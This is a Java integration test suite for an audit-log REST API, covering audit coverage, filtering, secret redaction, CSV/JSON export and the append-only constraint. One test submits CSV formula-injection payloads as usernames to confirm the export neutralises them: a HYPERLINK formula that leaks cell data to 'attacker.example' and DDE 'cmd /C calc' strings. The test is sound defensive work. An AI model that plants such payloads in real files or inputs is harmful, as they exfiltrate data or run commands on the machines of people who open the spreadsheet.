package io.testum.audit;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.hamcrest.Matchers.everyItem;
import static org.hamcrest.Matchers.hasSize;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.sql.SQLException;
import java.time.Instant;
import java.util.ArrayList;
import java.util.Comparator;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

import io.quarkus.test.common.WithTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.testum.auth.AccessRules;
import io.testum.testing.Auth;
import io.testum.testing.Fixtures;
import io.testum.testing.PostgresResource;
import io.testum.testing.TestDatabase;

@QuarkusTest
@WithTestResource(PostgresResource.class)
class AuditTest {

    @BeforeEach
    void signIn() {
        TestDatabase.reset();
        Auth.asAdmin();
    }

    private static long lastId() {
        return Long.parseLong(TestDatabase.rows("SELECT coalesce(max(id), 0) FROM audit_log").get(0).get(0));
    }

    @Test
    void writesAnEntryForEveryCallThatChangesSomething() {
        Auth.anonymous();
        String token = Auth.login(Auth.ADMIN, Auth.ADMIN_PASSWORD);
        Map<String, Map<String, Object>> paths = given().header("Authorization", "Bearer " + token)
                .accept("application/json").get("/q/openapi").then().statusCode(200).extract().path("paths");
        List<String[]> calls = new ArrayList<>();
        paths.forEach((path, methods) -> methods.keySet().stream()
                .filter(m -> List.of("post", "put", "delete", "patch").contains(m))
                .forEach(m -> calls.add(new String[] {m.toUpperCase(Locale.ROOT), path})));
        calls.sort(Comparator.comparing((String[] c) -> c[1].equals("/api/auth/logout")));
        assertTrue(calls.size() >= 15, "found " + calls.size());
        List<String> unaudited = new ArrayList<>();
        for (String[] call : calls) {
            String action = AccessRules.lookup(call[0], call[1]).orElseThrow().action();
            long before = lastId();
            given().header("Authorization", "Bearer " + token).contentType(ContentType.JSON).body("{}")
                    .request(call[0], call[1].replaceAll("\\{id}", "1").replaceAll("\\{\\w+}", "audit-target"));
            List<List<String>> rows = TestDatabase.rows("SELECT action, actor FROM audit_log WHERE id > ? AND action = ?",
                    before, action);
            if (rows.isEmpty()) {
                unaudited.add(call[0] + " " + call[1] + " (" + action + ")");
            }
        }
        assertEquals(List.of(), unaudited);
    }

    @Test
    void recordsWhoDidWhatToWhatFromWhereAndFiltersByIt() {
        Instant start = Instant.now().minusSeconds(1);
        Fixtures.credential("deployer");
        Fixtures.platform("audited-01", Map.of());
        given().delete("/api/platforms/audited-01").then().statusCode(204);
        given().delete("/api/platforms/audited-01").then().statusCode(404);

        given().queryParam("target", "audited-01").queryParam("from", start.toString()).get("/api/audit").then()
                .statusCode(200)
                .body("total", equalTo(3))
                .body("items.action", org.hamcrest.Matchers.contains("platform.delete", "platform.delete", "platform.create"))
                .body("items.outcome", org.hamcrest.Matchers.contains("failure", "success", "success"))
                .body("items.actor", everyItem(equalTo("admin")))
                .body("items.client_address", everyItem(equalTo("127.0.0.1")))
                .body("items[0].details.status", equalTo(404))
                .body("items[2].details.status", equalTo(201));
        given().queryParam("action", "platform.create").queryParam("target", "audited-01").get("/api/audit").then()
                .body("items", hasSize(1));
        given().queryParam("actor", "nobody-at-all").get("/api/audit").then().body("total", equalTo(0));
        given().queryParam("to", start.toString()).queryParam("target", "audited-01").get("/api/audit").then()
                .body("total", equalTo(0));
        given().queryParam("target", "audited-01").queryParam("size", 1).queryParam("page", 2).get("/api/audit").then()
                .body("items[0].action", equalTo("platform.create"));
        given().queryParam("from", "yesterday").get("/api/audit").then().statusCode(400).body("errors[0].field", equalTo("from"));
    }

    @Test
    void recordsRefusedCallsAndLoginsWithTheNameTried() {
        long before = lastId();
        Auth.anonymous();
        given().contentType(ContentType.JSON).body("{}").post("/api/platforms").then().statusCode(401);
        given().contentType(ContentType.JSON).body(Map.of("username", "mallory", "password", "guess-guess-guess"))
                .post("/api/auth/login").then().statusCode(401);
        List<List<String>> rows = TestDatabase.rows(
                "SELECT action, actor, outcome FROM audit_log WHERE id > ? ORDER BY id", before);
        assertEquals(List.of(List.of("platform.create", "anonymous", "denied"), List.of("auth.login", "mallory", "denied")),
                rows);
        TestDatabase.reset();
    }

    @Test
    void keepsSecretsOutOfTheDetails() {
        long before = lastId();
        given().contentType(ContentType.JSON).body(Map.of("name", "pw", "password", "do-not-log-this-password"))
                .post("/api/credentials/import").then().statusCode(201);
        given().contentType(ContentType.JSON).body(Map.of("name", "pw2", "password", "do-not-log-this-password", "private_key", "x"))
                .post("/api/credentials/import").then().statusCode(400);
        String dump = TestDatabase.rows("SELECT a::text FROM audit_log a WHERE id > ?", before).toString();
        assertFalse(dump.contains("do-not-log-this-password"), dump);
        assertTrue(dump.contains("credential.import"), dump);
    }

    @Test
    void exportsEveryMatchingEntryAsCsvAndJson() {
        Fixtures.credential("deployer");
        for (int i = 0; i < 3; i++) {
            Fixtures.platform("export-" + i, Map.of());
        }
        int total = given().queryParam("action", "platform.create").get("/api/audit").then().extract().path("total");
        String csv = given().queryParam("format", "csv").queryParam("action", "platform.create").get("/api/audit/export")
                .then().statusCode(200).header("Content-Type", org.hamcrest.Matchers.startsWith("text/csv"))
                .header("Content-Disposition", org.hamcrest.Matchers.containsString("attachment")).extract().asString();
        List<String> lines = csv.lines().toList();
        assertEquals("id,at,actor,action,target,outcome,client_address,details", lines.get(0));
        assertEquals(total, lines.size() - 1);
        assertTrue(lines.get(1).contains(",platform.create,"), lines.get(1));
        List<Map<String, Object>> json = given().queryParam("format", "json").queryParam("action", "platform.create")
                .get("/api/audit/export").then().statusCode(200).extract().jsonPath().getList("$");
        assertEquals(total, json.size());
        given().queryParam("format", "xml").get("/api/audit/export").then().statusCode(400);
    }

    /**
     * The actor of a login attempt is whatever name an unauthenticated caller typed. A spreadsheet
     * that opens the export must show such a name as text, never evaluate it as a formula.
     */
    @Test
    void exportsNamesThatLookLikeFormulasAsTextInTheCsv() {
        List<String> names = List.of("=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")", "+1+cmd|' /C calc'!A0",
                "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\tsneaky-tab", "\rsneaky-cr", "semi;=1+1");
        Auth.anonymous();
        for (String name : names) {
            given().contentType(ContentType.JSON).body(Map.of("username", name, "password", "not-the-password"))
                    .post("/api/auth/login").then().statusCode(401);
        }
        Auth.asAdmin();
        String csv = given().queryParam("format", "csv").queryParam("action", "auth.login").get("/api/audit/export")
                .then().statusCode(200).extract().asString();
        TestDatabase.reset();
        List<String> actors = csvColumn(csv, 2);
        for (String name : names) {
            String cell = actors.stream().filter(a -> a.endsWith(name.substring(1))).findFirst()
                    .orElseThrow(() -> new AssertionError("no row for " + name + " in " + actors));
            assertFalse(cell.startsWith("=") || cell.startsWith("+") || cell.startsWith("-") || cell.startsWith("@")
                    || cell.startsWith("\t") || cell.startsWith("\r"), "a spreadsheet would evaluate the cell " + cell);
            assertTrue(cell.equals(name) || cell.equals("'" + name), "the name is kept, readable: " + cell);
        }
        assertTrue(csv.contains("\"semi;=1+1\""), "a cell with a semicolon (the separator of some locales) is quoted: " + csv);
    }

    /** One column of a CSV text (RFC 4180: quoted fields may hold commas, quotes and line breaks). */
    private static List<String> csvColumn(String csv, int column) {
        List<String> values = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < csv.length(); i++) {
            char c = csv.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < csv.length() && csv.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"') {
                quoted = true;
            } else if (c == ',') {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\n') {
                row.add(cell.toString());
                cell.setLength(0);
                values.add(row.get(column));
                row.clear();
            } else {
                cell.append(c);
            }
        }
        return values.subList(1, values.size());
    }

    @Test
    void exportAnswersTheFormatAskedForWhateverTheAcceptHeaderNamesThatFormat() {
        Fixtures.credential("deployer");
        Fixtures.platform("negotiated", Map.of());

        given().accept("text/csv").queryParam("format", "csv").get("/api/audit/export").then().statusCode(200)
                .header("Content-Type", org.hamcrest.Matchers.startsWith("text/csv"))
                .body(org.hamcrest.Matchers.startsWith("id,at,actor,action,target,outcome,client_address,details\n"));
        given().accept("application/json").queryParam("format", "json").get("/api/audit/export").then().statusCode(200)
                .header("Content-Type", org.hamcrest.Matchers.startsWith("application/json"))
                .body("action", org.hamcrest.Matchers.hasItem("platform.create"));
        // without format, the Accept header chooses
        given().accept("text/csv").get("/api/audit/export").then().statusCode(200)
                .header("Content-Type", org.hamcrest.Matchers.startsWith("text/csv"));
        given().accept("application/json").get("/api/audit/export").then().statusCode(200)
                .header("Content-Type", org.hamcrest.Matchers.startsWith("application/json"));
        // a format the Accept header rules out is refused, saying why
        given().accept("application/json").queryParam("format", "csv").get("/api/audit/export").then().statusCode(406)
                .contentType("application/problem+json")
                .body("detail", org.hamcrest.Matchers.containsString("format=csv is text/csv"));
    }

    @Test
    void theDatabaseRefusesToChangeOrRemoveAnEntry() {
        Fixtures.credential("deployer");
        SQLException update = assertThrows(SQLException.class, () -> {
            try (var c = TestDatabase.connect(); var s = c.createStatement()) {
                s.execute("UPDATE audit_log SET actor = 'someone-else'");
            }
        });
        assertTrue(update.getMessage().contains("append-only"), update.getMessage());
        assertThrows(SQLException.class, () -> {
            try (var c = TestDatabase.connect(); var s = c.createStatement()) {
                s.execute("DELETE FROM audit_log");
            }
        });
    }
}
